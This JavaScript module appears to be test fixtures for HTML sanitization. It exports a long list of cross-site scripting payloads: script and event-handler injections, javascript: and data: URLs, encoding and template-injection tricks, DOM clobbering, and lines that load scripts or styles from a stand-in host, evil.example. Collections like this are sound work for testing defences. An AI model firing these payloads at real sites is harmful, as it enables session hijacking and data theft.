// Text that would become script, markup, style or an address if a page let it. `MARK` is what each would do.
const MARK = "window.unsaidXss=1;alert(1)";
const tags = [
  "script", "img", "svg", "iframe", "object", "embed", "video", "audio", "body", "details", "input", "marquee", "math",
  "select", "textarea", "keygen", "isindex", "form", "a", "style", "link", "meta", "base", "table", "template", "portal",
];
const events = [
  "onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onstart", "onbegin", "onanimationstart", "onpageshow",
  "onpointerenter", "oncontentvisibilityautostatechange", "onscrollend", "onbeforetoggle", "onhashchange",
];
const whole = [
  `<script>${MARK}</script>`, `"><script>${MARK}</script>`, `'><script>${MARK}</script>`, `</title><script>${MARK}</script>`,
  `</textarea><script>${MARK}</script>`, `</bdi></h1><script>${MARK}</script>`, `--><script>${MARK}</script>`,
  `<ScRiPt>${MARK}</sCrIpT>`, `<script/x>${MARK}</script>`, `<script\n>${MARK}</script>`, `<script src=//evil.example/x.js></script>`,
  `<script src=data:text/javascript,alert(1)></script>`, `<script type=module>${MARK}</script>`, `<scr<script>ipt>${MARK}</script>`,
  `<img src=x onerror=${MARK}>`, `<img src=x onerror="${MARK}">`, `<img/src=x/onerror=${MARK}>`, `<img src="x\`onerror=${MARK}\``,
  `<svg onload=${MARK}>`, `<svg><script>${MARK}</script>`, `<svg><a xlink:href=javascript:alert(1)><text y=9>x`, `<svg><animate onbegin=alert(1) attributeName=x>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<iframe src=javascript:alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=javascript:alert(1)>`, `<embed src=javascript:alert(1)>`,
  `<a href=javascript:alert(1)>x</a>`, `<a href="jav&#x09;ascript:alert(1)">x</a>`, `<form action=javascript:alert(1)><button>x`, `<button formaction=javascript:alert(1)>x`,
  `<input autofocus onfocus=${MARK}>`, `<select autofocus onfocus=alert(1)>`, `<textarea autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>`,
  `<body onload=alert(1)>`, `<video><source onerror=alert(1)>`, `<audio src=x onerror=alert(1)>`, `<marquee onstart=alert(1)>`,
  `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example/>`,
  `<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import'//evil.example/x.css';</style>`, `<style>*{background:url(//evil.example)}</style>`,
  `<div style="background:url(javascript:alert(1))">`, `<div style=animation-name:x onanimationstart=alert(1)>`, `" autofocus onfocus=alert(1) x="`, `' autofocus onfocus=alert(1) x='`,
  `" style="position:fixed;inset:0" x="`, `\` onmouseover=alert(1) \``, `" formaction="javascript:alert(1)`, `" data-seal-key="AAAA" data-x="`,
  `javascript:alert(1)`, `JaVaScRiPt:alert(1)`, `data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`, `javascript://%0aalert(1)`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&amp;lt;script&amp;gt;`, `%3Cscript%3Ealert(1)%3C/script%3E`, `\\u003cscript\\u003ealert(1)\\u003c/script\\u003e`,
  `\\x3cscript\\x3ealert(1)`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `＜script＞alert(1)＜/script＞`, `‹script›alert(1)‹/script›`, `<script>alert(1)`,
  `{{constructor.constructor('alert(1)')()}}`, `\${alert(1)}`, `#{alert(1)}`, `<%= alert(1) %>`, `{{7*7}}`, `[[\${7*7}]]`, `';alert(1)//`, `";alert(1)//`,
  `\\';alert(1)//`, `</script><script>alert(1)</script>`, `]]><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`, `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template shadowrootmode=open><script>alert(1)</script>`, `<x onclick=alert(1) tabindex=1 id=main>#main`,
  `<form id=x><input name=submit><input name=csrf value=x>`, `<a id=body><a id=body name=dataset>`, `<img name=currentScript>`, `<p>__proto__</p>`, `<input name="f.value" value="x">`,
  `\u202e<script>alert(1)</script>`, `\u200b<script>alert(1)</script>`, `<\u0000script>alert(1)</script>`, `<script\u2028>alert(1)</script>`, `\u{E0041}<img src=x onerror=alert(1)>`,
];

export const PAYLOADS = [
  ...new Set([
    ...whole,
    ...tags.map((tag) => `"><${tag} src=x href=x onerror=${MARK} onload=${MARK}>`),
    ...events.map((event) => `" ${event}="${MARK}" x="`),
  ]),
];
